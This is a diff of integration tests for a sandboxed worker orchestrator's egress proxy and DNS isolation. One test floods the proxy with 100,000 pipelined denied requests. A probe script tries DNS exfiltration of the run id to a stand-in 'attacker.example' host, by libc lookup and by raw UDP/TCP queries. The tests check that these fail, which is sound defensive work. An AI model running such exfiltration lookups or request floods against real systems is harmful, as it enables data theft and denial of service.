@@ -12,9 +12,11 @@ from __future__ import annotations
 
 import dataclasses
 import http.server
+import itertools
 import json
 import os
 import socket
+import struct
 import subprocess
 import sys
 import textwrap
@@ -41,7 +43,7 @@ from orchestrator.docker.netnames import RUN_PREFIX, full_network, network_name
 from orchestrator.docker.networks import release_network
 from orchestrator.errors import EngineError
 from orchestrator.plan import ContainerSpec, Limits, Network, Tmpfs, project_key
-from tests.integration.conftest import ISOLATIONS, cli, require_gvisor
+from tests.integration.conftest import ISOLATIONS, cli, require_gvisor, wait_until
 
 docker = pytest.mark.docker
 
@@ -1301,3 +1303,350 @@ def test_a_listed_name_or_address_in_another_run_is_refused_by_the_proxy(engine,
         assert release_network(engine, net_a)
         if key:
             eg_gc.remove_egress(engine, key)
+
+
+# -- a flood cannot erase decisions; no DNS out of a worker's namespace ---------------------
+
+#: An allowlist of the flood test's own, so that its proxy is shared by its runs only.
+FLOOD_ALLOW = ["allowed.test", "www.allowed.test:8443"]
+FLOOD_FRONT = (
+    "trust: session\nnetwork: {allow: [allowed.test, 'www.allowed.test:8443']}\n"
+    "sandbox: {zones: [{name: meet, mode: rw}]}"
+)
+
+#: Waits for /meet/other-ready, makes one allowed request, then COUNT pipelined denied
+#: requests with 255-character host names through its proxy; prints what it sent.
+FLOODER = r"""
+import json, os, socket, threading, time, urllib.request
+def wait(name, limit=120):
+    end = time.time() + limit
+    while not os.path.exists("/meet/" + name):
+        assert time.time() < end, name
+        time.sleep(0.1)
+wait("other-ready")
+with urllib.request.urlopen("http://allowed.test/", timeout=15) as answer:
+    first = answer.status
+sent = answered = 0
+def host(n):
+    return ("%08d" % n) + "x" * 55 + ("." + "a" * 63) * 3  # 255 characters
+def drain(sock, counts):
+    while True:
+        try:
+            data = sock.recv(1 << 16)
+        except OSError:
+            return
+        if not data:
+            return
+        counts[0] += data.count(b"HTTP/1.1 403")
+end = time.time() + 90
+while sent < COUNT and time.time() < end:
+    sock = socket.create_connection(("proxy", 3128), timeout=30)
+    counts = [0]
+    reader = threading.Thread(target=drain, args=(sock, counts))
+    reader.start()
+    try:
+        while sent < COUNT and time.time() < end:
+            batch = b"".join(
+                b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % ((host(n).encode(),) * 2)
+                for n in range(sent, min(sent + 500, COUNT))
+            )
+            sock.sendall(batch)
+            sent = min(sent + 500, COUNT)
+        time.sleep(1)
+        sock.shutdown(socket.SHUT_WR)
+    except OSError:
+        pass
+    reader.join(60)
+    sock.close()
+    answered += counts[0]
+open("/meet/flooded", "w").close()
+print(json.dumps({"first": first, "sent": sent, "answered": answered}))
+"""
+
+#: Fetches an allowed and a denied URL, tells the flooder, waits for the flood to end,
+#: then fetches another denied one.
+OTHER = r"""
+import json, os, time, urllib.error, urllib.request
+def fetch(url):
+    try:
+        with urllib.request.urlopen(url, timeout=15) as answer:
+            return answer.status
+    except urllib.error.HTTPError as exc:
+        return exc.code
+seen = [fetch("http://allowed.test/"), fetch("http://denied.test/")]
+open("/meet/other-ready", "w").close()
+end = time.time() + 240
+while not os.path.exists("/meet/flooded") and time.time() < end:
+    time.sleep(0.2)
+seen.append(fetch("http://www.allowed.test/"))
+print(json.dumps(seen))
+"""
+
+
+def _runs_of(audit, worker):
+    from orchestrator.audit import AuditFilter
+
+    return [
+        e.run_id for e in audit.query(AuditFilter(operation="run.started")) if e.worker == worker
+    ]
+
+
+def _decisions_of(audit, run_id):
+    from orchestrator.audit import AuditFilter
+
+    entries = audit.query(AuditFilter(operation="egress.decision", run=run_id))
+    return [(e.metadata["host"], e.allowed) for e in entries]
+
+
+@docker
+def test_a_flood_of_denied_requests_erases_no_decision_and_stops_no_later_run(
+    engine, internet, project
+):
+    """One allowed request, then 100,000 pipelined denied ones with 255-character names
+    (enough to rotate the proxy's whole log 3 x 10 MB without the log budget): the allowed
+    decision and another run's decisions on the same proxy are all in the audit log, the
+    flood is one egress.flood entry with counts, the audit log and the run's stderr grow
+    by little, and a new run on the allowlist starts right after."""
+    from orchestrator.audit import AuditFilter, AuditLog
+    from orchestrator.config import load_project
+
+    internet["keys"].add(eg.allowlist_key(eg.validate_allowlist(FLOOD_ALLOW)))
+    meet = project.zone("meet", "rw")
+    count = 100_000
+    project.worker(
+        "flooder",
+        f"command: {json.dumps(['python3', '-c', FLOODER.replace('COUNT', str(count))])}\n"
+        f"{FLOOD_FRONT}\nresources: {{timeout: 300}}",
+    )
+    project.worker("other", f"command: {json.dumps(['python3', '-c', OTHER])}\n{FLOOD_FRONT}")
+    project.worker(
+        "late",
+        "command: "
+        + json.dumps(["python3", "-c", probe_script([["fetch", "late", "http://allowed.test/"]])])
+        + f"\n{FLOOD_FRONT}",
+    )
+    root = str(project.root)
+    audit_path = load_project(project.root).sandbox_root / "audit.jsonl"
+    other = subprocess.Popen(
+        [sys.executable, "-m", "orchestrator", "run", "other", "--project", root, "--json"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    try:
+        assert wait_until(lambda: (meet / "other-ready").exists(), 120), other.poll()
+        before = audit_path.stat().st_size
+        started = time.monotonic()
+        flood = cli("run", "flooder", "--project", root, timeout=400)
+        took = time.monotonic() - started
+        grown = audit_path.stat().st_size - before
+    finally:
+        (meet / "flooded").touch()
+        out, err = other.communicate(timeout=240)
+    late = cli("run", "late", "--project", root, "--json")
+
+    assert flood.returncode == 0, flood.stderr
+    sent = last_json(flood.stdout)
+    assert sent["first"] == 200 and sent["sent"] == count, sent
+    assert sent["answered"] > count // 2, sent  # the proxy did answer the flood
+    audit = AuditLog(audit_path)
+    [flood_run] = _runs_of(audit, "flooder")
+    decisions = _decisions_of(audit, flood_run)
+    assert ("allowed.test", True) in decisions
+    denied = [host for host, allowed in decisions if not allowed]
+    assert 0 < len(denied) <= contract.RUN_DENIED
+    [entry] = audit.query(AuditFilter(operation="egress.flood", run=flood_run))
+    counted = entry.metadata["denied"] + entry.metadata["logged_denied"]
+    assert sent["answered"] <= counted <= count, (entry.metadata, sent)
+    assert entry.metadata["bytes"] > 250 * entry.metadata["denied"]
+    assert grown < 400_000, grown  # was 55 MB
+    assert len(flood.stderr.splitlines()) <= 15 and len(flood.stderr) < 4096, flood.stderr
+    assert "egress FLOOD" in flood.stderr
+
+    assert other.returncode == 0, err
+    assert json.loads(json.loads(out)["stdout"].strip().splitlines()[-1]) == [200, 403, 403]
+    [other_run] = _runs_of(audit, "other")
+    assert sorted(_decisions_of(audit, other_run)) == [
+        ("allowed.test", True),
+        ("denied.test", False),
+        ("www.allowed.test", False),
+    ]
+    assert not audit.query(AuditFilter(operation="egress.flood", run=other_run))
+
+    assert late.returncode == 0, late.stderr
+    assert last_json(late.json()["stdout"])["late"][:2] == ["ok", 200]
+    assert ("allowed.test", True) in _decisions_of(audit, late.json()["run_id"])
+    print(f"flood: {sent}, run {took:.1f} s, audit +{grown} bytes, {entry.metadata}")
+
+
+#: Tells its run id in /meet/ready.json, waits for /meet/go, then looks an outside name
+#: up every way it can (the C library, UDP and TCP straight to the engine's DNS), finds
+#: its proxy by name, fetches through it, and sends one datagram to its gateway's port 9
+#: (the control: it leaves the namespace). Reports in one JSON line.
+DNS_PROBE = r"""
+import json, os, socket, struct, time, urllib.request
+run = os.environ["ORCHESTRATOR_RUN_ID"]
+with open("/meet/ready.tmp", "w") as handle:
+    json.dump({"run": run}, handle)
+os.rename("/meet/ready.tmp", "/meet/ready.json")
+end = time.time() + 120
+while not os.path.exists("/meet/go") and time.time() < end:
+    time.sleep(0.05)
+out = {"resolv": open("/etc/resolv.conf").read().split(), "nets": sorted(name for _, name in socket.if_nameindex())}
+started = time.time()
+try:
+    socket.getaddrinfo("exfil-%s.attacker.example" % run, 80)
+    out["lookup"] = "resolved"
+except OSError:
+    out["lookup"] = "failed"
+out["lookup_s"] = time.time() - started
+name = b"".join(bytes([len(p)]) + p for p in (b"exfil-raw", run.encode()[:20], b"example"))
+query = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", 1, 1)
+for kind in ("udp", "tcp"):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
+    sock.settimeout(4)
+    try:
+        if kind == "udp":
+            sock.sendto(query, ("127.0.0.11", 53))
+            answer = sock.recv(512)
+        else:
+            sock.connect(("127.0.0.11", 53))
+            sock.sendall(struct.pack("!H", len(query)) + query)
+            answer = sock.recv(514)[2:]
+        out[kind] = "rcode %d, %d answers" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0])
+    except OSError as exc:
+        out[kind] = type(exc).__name__
+    finally:
+        sock.close()
+if os.environ.get("HTTP_PROXY"):
+    out["proxy"] = socket.gethostbyname("proxy")
+    with urllib.request.urlopen("http://allowed.test/", timeout=15) as answer:
+        out["fetch"] = answer.status
+    gateway = None
+    for line in open("/proc/net/route").read().splitlines()[1:]:
+        fields = line.split()
+        if fields[1] == "00000000":
+            gateway = socket.inet_ntoa(struct.pack("<L", int(fields[2], 16)))
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    for _ in range(3):
+        sock.sendto(b"control", (gateway, 9))
+    sock.close()
+print(json.dumps(out))
+"""
+
+
+class PortCounter:
+    """Counts IPv4 TCP and UDP packets to or from given ports on a host interface (a
+    packet socket on the bridge: what left the containers' namespaces). Needs root."""
+
+    def __init__(self, interface, ports):
+        self.counts = dict.fromkeys(ports, 0)
+        self.frames = 0
+        self._stop = threading.Event()
+        self._sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+        self._sock.bind((interface, 0))
+        self._sock.settimeout(0.1)
+        self._thread = threading.Thread(target=self._run, daemon=True)
+        self._thread.start()
+
+    def _run(self):
+        while not self._stop.is_set():
+            try:
+                frame = self._sock.recv(65535)
+            except TimeoutError:
+                continue
+            except OSError:  # the bridge went away with its run
+                return
+            self.frames += 1
+            if len(frame) < 34 or frame[12:14] != b"\x08\x00" or frame[23] not in (6, 17):
+                continue
+            header = (frame[14] & 15) * 4
+            ports = struct.unpack("!HH", frame[14 + header : 18 + header])
+            for port in set(ports) & set(self.counts):
+                self.counts[port] += 1
+
+    def stop(self):
+        time.sleep(0.5)  # what is still on its way
+        self._stop.set()
+        self._thread.join(5)
+        self._sock.close()
+        return self.counts
+
+
+@docker
+@pytest.mark.parametrize("isolation", ISOLATIONS)
+def test_no_dns_query_leaves_an_allowlisted_worker_s_namespace(
+    engine, internet, project, isolation
+):
+    """An allowlisted worker looks an outside name up (the C library, and UDP and TCP
+    straight to the engine's DNS at 127.0.0.11): no packet to or from port 53 crosses its
+    network's bridge on the host, while its datagram to the gateway does (the counter
+    sees what leaves), its proxy's name still resolves and fetching through it works."""
+    import hashlib
+
+    if isolation == "gvisor":
+        require_gvisor(engine)
+    assert os.geteuid() == 0, "counting packets on the bridge needs root"
+    internet["keys"].add(eg.allowlist_key(eg.validate_allowlist(["allowed.test"])))
+    project.isolation = isolation
+    meet = project.zone("meet", "rw")
+    command = json.dumps(["python3", "-c", DNS_PROBE])
+    project.worker(
+        "dns",
+        f"command: {command}\ntrust: session\nnetwork: {{allow: [allowed.test]}}\n"
+        "sandbox: {zones: [{name: meet, mode: rw}]}",
+    )
+    run = subprocess.Popen(
+        [sys.executable, "-m", "orchestrator", "run", "dns", "--project", str(project.root)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    counter = None
+    try:
+        assert wait_until(lambda: (meet / "ready.json").exists(), 120), run.poll()
+        run_id = json.loads((meet / "ready.json").read_text())["run"]
+        network = f"{RUN_PREFIX}{run_id}"
+        bridge = eg.BRIDGE_PREFIX + hashlib.sha256(network.encode()).hexdigest()[:11]
+        counter = PortCounter(bridge, (53, 9))
+        (meet / "go").touch()
+        out, err = run.communicate(timeout=120)
+    finally:
+        if run.poll() is None:
+            run.kill()
+            run.communicate()
+        counts = counter.stop() if counter is not None else {}
+    assert run.returncode == 0, err
+    seen = last_json(out)
+    assert seen["resolv"] == ["nameserver", "127.0.0.11", "options", "ndots:0"], seen
+    assert seen["lookup"] == "failed", seen
+    assert not seen["udp"].endswith(" 1 answers") and not seen["tcp"].endswith(" 1 answers")
+    assert seen["fetch"] == 200 and seen["proxy"].count(".") == 3, seen
+    assert counts[9] >= 3, counts  # the worker's own datagrams were seen leaving
+    assert counts[53] == 0, (counts, seen)
+
+
+@docker
+@pytest.mark.parametrize("isolation", ISOLATIONS)
+def test_a_worker_without_network_has_no_resolver(engine, project, isolation):
+    """A worker with network none has only loopback and no resolver: a lookup fails at
+    once (the host's resolver was named in its resolv.conf before)."""
+    if isolation == "gvisor":
+        require_gvisor(engine)
+    project.isolation = isolation
+    meet = project.zone("meet", "rw")
+    (meet / "go").touch()
+    command = json.dumps(["python3", "-c", DNS_PROBE])
+    project.worker(
+        "closed",
+        f"command: {command}\ntrust: session\nsandbox: {{zones: [{{name: meet, mode: rw}}]}}",
+    )
+    result = cli("run", "closed", "--project", str(project.root), "--json")
+    assert result.returncode == 0, result.stderr
+    seen = last_json(result.json()["stdout"])
+    words = seen["resolv"]
+    servers = {after for before, after in itertools.pairwise(words) if before == "nameserver"}
+    assert servers <= {"0.0.0.0"}, seen  # none, or "this host" (gVisor writes none)
+    assert seen["nets"] == ["lo"], seen
+    assert seen["lookup"] == "failed" and seen["lookup_s"] < 3, seen
+    assert seen["udp"] != "rcode 0, 1 answers" and seen["tcp"] != "rcode 0, 1 answers"
